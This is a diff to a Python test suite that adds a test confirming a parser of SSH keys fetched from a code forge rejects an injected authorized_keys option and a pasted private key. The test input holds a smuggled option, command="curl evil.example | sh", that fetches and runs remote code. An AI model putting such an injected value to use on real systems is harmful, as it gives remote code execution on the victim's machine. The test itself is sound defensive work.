@@ -33,6 +33,14 @@ def test_an_empty_answer_or_a_bad_key_in_it_is_refused_with_why():
               "(ssh-keygen -t ed25519)")
 
 
+def test_a_forge_cannot_slip_options_into_authorized_keys():
+    key = ed25519_key()
+    assert parse_keys_answer(f'command="curl evil.example | sh" {key}\n', ALICE)[1].startswith(
+        "its key on line 1: unknown key type 'command=\"curl'")
+    assert parse_keys_answer(f'{key}\n-----BEGIN OPENSSH PRIVATE KEY-----\n', ALICE)[1].startswith(
+        "its key on line 2: this is a private key")
+
+
 def test_the_keys_url_is_the_base_then_the_user():
     assert keys_url("https://github.com", "alice") == "https://github.com/alice.keys"
     assert keys_url("https://git.uni.example/gitlab/", "bob") == "https://git.uni.example/gitlab/bob.keys"
